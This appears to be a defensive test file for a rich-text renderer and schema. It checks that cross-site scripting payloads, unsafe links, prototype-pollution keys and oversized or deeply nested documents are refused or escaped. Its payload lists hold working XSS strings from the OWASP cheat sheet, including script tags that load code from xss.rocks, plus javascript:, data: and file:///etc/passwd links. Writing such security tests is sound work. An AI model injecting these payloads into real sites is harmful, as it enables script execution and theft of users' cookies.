/**
 * The renderer and the schema fed what an attacker would store: the OWASP XSS filter evasion cheat
 * sheet's payloads (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html)
 * as words, links, attributes and node names; deep nesting, a megabyte, prototype keys. The output is
 * read back tag by tag: only the renderer's own tags and attributes, every link one a page may carry.
 */
import { describe, expect, test } from 'bun:test'
import * as v from 'valibot'
import { isSafeHref, RichDocument, type RichTextWork, toRichDoc } from './document'
import { renderRichText } from './render'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  "<svg/onload=alert('XSS')>",
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '"><script>alert(1)</script>',
  "'';!--\"<XSS>=&{()}",
  '</p><p onclick="alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
]

const HREFS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  'jav&#x09;ascript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox("XSS")',
  'VBScript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'livescript:alert(1)',
  'file:///etc/passwd',
  '//evil.example.org/',
  '/\\evil.example.org/',
  '\\\\evil.example.org',
  'https://x.org" onmouseover="alert(1)',
  'https://x.org/\u2028javascript:alert(1)',
  'http:/\\evil.example.org',
  'mailto:',
  'tel:javascript:alert(1)',
  'https:alert(1)',
  '',
]

/** The renderer's own tags and attributes: anything else in the output came from the input. */
const TAGS = new Set([
  'p',
  'h2',
  'h3',
  'strong',
  'em',
  'a',
  'br',
  'ul',
  'ol',
  'li',
  'blockquote',
  'hr',
  'figure',
  'figcaption',
  'picture',
  'source',
  'img',
  'span',
])
const ATTRIBUTES = new Set([
  'id',
  'href',
  'rel',
  'target',
  'class',
  'start',
  'type',
  'srcset',
  'sizes',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'decoding',
  'style',
])
const TAG = /<(\/?)([a-z0-9]+)((?: [a-z-]+="[^"<>]*")*)>/y
const unescapeHtml = (text: string) =>
  text.replace(/&(amp|lt|gt|quot|#39);/g, (_, e) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" })[e as string] as string)

/** Reads the HTML tag by tag and fails on anything the renderer would not write. */
function expectSafe(html: string) {
  for (let at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
    TAG.lastIndex = at
    const tag = TAG.exec(html)
    if (!tag) throw new Error(`Not one of the renderer's tags at ${at}: ${html.slice(at, at + 80)}`)
    expect(TAGS).toContain(tag[2])
    for (const [, name, value] of tag[3].matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      expect(ATTRIBUTES).toContain(name)
      expect(name).not.toMatch(/^on/i)
      if (name === 'href' || name === 'src') {
        const address = unescapeHtml(value)
        expect(isSafeHref(address)).toBe(true)
        expect(address).not.toMatch(/^\s*(javascript|vbscript|data):/i)
      }
    }
  }
  expect(html).not.toMatch(/<script|<iframe|<svg|<style|<object|<meta/i)
}

const text = (t: string, marks?: unknown[]) => ({ type: 'text', text: t, ...(marks ? { marks } : {}) })
const para = (...content: unknown[]) => ({ type: 'paragraph', content })
const refused = (value: unknown) => expect(v.safeParse(RichDocument, value).success).toBe(false)
/** Nodes in a value, counted without recursion. */
function nodeCount(value: unknown) {
  let count = 0
  const stack = [value]
  while (stack.length) {
    const node = stack.pop() as { content?: unknown; marks?: unknown }
    count++
    if (Array.isArray(node?.content)) stack.push(...node.content)
    if (Array.isArray(node?.marks)) stack.push(...node.marks)
  }
  return count
}

describe('hostile rich text', () => {
  test('payloads typed as words are words', () => {
    const doc = { type: 'doc', content: PAYLOADS.map((p) => para(text(p, [{ type: 'bold' }]))) }
    expect(v.safeParse(RichDocument, doc).success).toBe(true)
    const html = renderRichText(doc)
    expectSafe(html)
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(html).toContain('&amp;lt;script&amp;gt;')
  })

  test('unsafe links are refused by the schema, and rendered as their words alone', () => {
    for (const href of HREFS) {
      const doc = {
        type: 'doc',
        content: [para(text('Click', [{ type: 'link', attrs: { href } }])), { type: 'buttonLink', attrs: { text: 'Go', href } }],
      }
      refused(doc)
      const html = renderRichText(doc)
      expectSafe(html)
      expect(html).toBe('<p>Click</p><p>Go</p>')
    }
  })

  test('payloads as attributes: escaped where they are words, refused where they are addresses or names', () => {
    for (const payload of PAYLOADS) {
      const doc = {
        type: 'doc',
        content: [
          { type: 'heading', attrs: { level: payload, id: payload }, content: [text(payload)] },
          {
            type: 'image',
            attrs: { src: `/uploads/0b5c2f9e-3d1a-4c8e-9f6b-2a7d4e1c8b90.png${payload}`, alt: payload, decorative: false, caption: '' },
          },
          {
            type: 'image',
            attrs: { src: '/uploads/0b5c2f9e-3d1a-4c8e-9f6b-2a7d4e1c8b90.png', alt: payload, decorative: false, caption: payload },
          },
          { type: 'youtube', attrs: { videoId: payload } },
          { type: 'orderedList', attrs: { start: payload }, content: [{ type: 'listItem', content: [para(text('x'))] }] },
          { type: 'buttonLink', attrs: { text: payload, href: '/ok' } },
          { type: payload, content: [para(text(payload, [{ type: payload }]))] },
        ],
      }
      refused(doc)
      expectSafe(renderRichText(doc))
    }
  })

  test('event handlers, styles and unknown keys on any node are refused and never written', () => {
    const doc = {
      type: 'doc',
      onload: 'alert(1)',
      content: [
        {
          type: 'paragraph',
          attrs: { onclick: 'alert(1)', style: 'background:url(javascript:alert(1))', class: 'x' },
          content: [text('a')],
        },
        { type: 'paragraph', content: [{ ...text('b'), onmouseover: 'alert(1)' }] },
        para(text('c', [{ type: 'link', attrs: { href: '/ok', onclick: 'alert(1)', target: '_self' } }])),
        {
          type: 'image',
          attrs: {
            src: '/uploads/0b5c2f9e-3d1a-4c8e-9f6b-2a7d4e1c8b90.png',
            alt: 'x',
            decorative: false,
            caption: '',
            onerror: 'alert(1)',
          },
        },
        { type: 'script', content: [text('alert(1)')] },
      ],
    }
    refused(doc)
    const html = renderRichText(doc)
    expectSafe(html)
    expect(html).toBe(
      '<p>a</p><p>b</p><p><a href="/ok" rel="noopener">c</a></p>' +
        '<figure class="rich-picture"><img src="/uploads/0b5c2f9e-3d1a-4c8e-9f6b-2a7d4e1c8b90.png" alt="x" loading="lazy" decoding="async" style="max-width:100%;height:auto"></figure>' +
        '<p>alert(1)</p>',
    )
  })

  test('__proto__ keys neither pollute objects nor smuggle attributes', () => {
    const json =
      '{"type":"doc","__proto__":{"polluted":1},"content":[{"type":"paragraph","content":[{"type":"text","text":"x","marks":[{"type":"link","attrs":{"__proto__":{"href":"javascript:alert(1)"}}}]}]},' +
      '{"type":"buttonLink","attrs":{"text":"Go","__proto__":{"href":"/ok"}}},{"__proto__":{"type":"heading"},"content":[{"type":"text","text":"y"}]}]}'
    const doc = JSON.parse(json)
    refused(doc)
    const html = renderRichText(doc)
    expectSafe(html)
    // The button's address was only on the prototype: its words stay, as a paragraph.
    expect(html).toBe('<p>x</p><p>Go</p><p>y</p>')
    const kept = toRichDoc(doc)
    expect(Object.getPrototypeOf(kept)).toBe(Object.prototype)
    expect(({} as { polluted?: number }).polluted).toBeUndefined()
    // A prototype given in code (not JSON) is not read either.
    expect(renderRichText({ type: 'doc', content: [Object.create({ type: 'horizontalRule' })] })).toBe('')
  })

  test('nesting 10,000 deep: refused, rendered as its words at the allowed depth, no stack overflow', () => {
    for (const wrap of [
      (inner: unknown) => ({ type: 'blockquote', content: [inner] }),
      (inner: unknown) => ({ type: 'bulletList', content: [{ type: 'listItem', content: [inner] }] }),
      (inner: unknown) => ({ type: 'unknown', content: [inner] }),
    ]) {
      let deep: unknown = para(text('deep words'))
      for (let i = 0; i < 10_000; i++) deep = wrap(deep)
      const doc = { type: 'doc', content: [deep] }
      refused(doc)
      const work: RichTextWork = { visited: 0 }
      const html = renderRichText(doc, work)
      expectSafe(html)
      expect(html).toContain('deep words')
      expect(work.visited).toBeLessThanOrEqual(2 * nodeCount(doc))
      expect(v.safeParse(RichDocument, toRichDoc(doc)).success).toBe(true)
    }
    // Inside a line too.
    let inline: unknown = text('in a line')
    for (let i = 0; i < 10_000; i++) inline = { type: 'span', content: [inline] }
    expect(renderRichText({ type: 'doc', content: [para(inline)] })).toBe('<p>in a line</p>')
  })

  test('a megabyte and a huge text: refused, rendered in work that grows with the input, not its square', () => {
    const pageOf = (paragraphs: number) => ({
      type: 'doc',
      content: Array.from({ length: paragraphs }, (_, i) =>
        para(text(`Paragraph ${i} `), text('<b>bold</b> '.repeat(10), [{ type: 'bold' }, { type: 'link', attrs: { href: '/x' } }]), {
          type: 'hardBreak',
        }),
      ),
    })
    const megabyte = pageOf(6_000)
    expect(JSON.stringify(megabyte).length).toBeGreaterThan(1_000_000)
    refused(megabyte)
    const work: RichTextWork = { visited: 0 }
    const html = renderRichText(megabyte, work)
    expectSafe(html)
    expect(html.match(/<p>/g)?.length).toBe(6_000)
    const half: RichTextWork = { visited: 0 }
    renderRichText(pageOf(3_000), half)
    expect(work.visited).toBeLessThanOrEqual(2 * half.visited + 2)
    expect(work.visited).toBeLessThanOrEqual(2 * nodeCount(megabyte))

    const huge = { type: 'doc', content: [para(text('<script>'.repeat(500_000)))] }
    refused(huge)
    const hugeHtml = renderRichText(huge)
    expectSafe(hugeHtml)
    // One run of text is kept up to its bound (20,000 characters), escaped.
    expect(hugeHtml.length).toBe('<p></p>'.length + 20_000 * ('&lt;script&gt;'.length / '<script>'.length))
  })

  test('far more nodes than a document may hold: the walk stops at its budget', () => {
    const wide = { type: 'doc', content: Array.from({ length: 300_000 }, () => ({ type: 'horizontalRule' })) }
    refused(wide)
    const work: RichTextWork = { visited: 0 }
    const html = renderRichText(wide, work)
    // The walk's budget (100,000 nodes, five times a document's bound), the document itself counted.
    expect(work.visited).toBe(100_000)
    expect(html.length).toBe(99_999 * '<hr>'.length)
  })
})
